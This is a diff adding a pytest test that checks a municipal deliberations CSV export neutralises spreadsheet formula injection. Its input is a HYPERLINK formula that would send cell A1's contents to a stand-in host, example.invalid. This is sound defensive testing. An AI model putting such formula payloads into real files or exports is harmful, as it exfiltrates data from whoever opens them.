@@ -140,3 +140,18 @@ def test_scdl_csv_detects_a_broken_row(rehearsed, tmp_path):
 def test_actes_names_follow_scdl_spelling():
     for code, name in ACTES_MATIERES.items():
         assert name == name.lower() and name.count("/") == 1 and "," not in name and "(" not in name, code
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_scdl_csv_neutralises_cells_a_spreadsheet_would_run_as_a_formula(rehearsed, start):
+    """Issue 12.11, OWASP « CSV Injection »: a title typed as a formula is written as text."""
+    import copy
+
+    seance = copy.deepcopy(rehearsed[1])
+    item = next(i for i in seance.state.agenda if i["status"] == "voted" and not i["body"])
+    item["title"] = start + 'HYPERLINK("http://example.invalid/?x="&A1;"clic")'
+    rows = list(csv.DictReader(io.StringIO(deliberations_csv(seance))))
+    objet = next(r["DELIB_OBJET"] for r in rows if r["DELIB_OBJET"].endswith('"clic")'))
+    assert objet == "'" + item["title"]
+    # the other cells are untouched (numbers, ids, dates never start so)
+    assert all(not v.startswith("'") for r in rows for k, v in r.items() if k != "DELIB_OBJET")
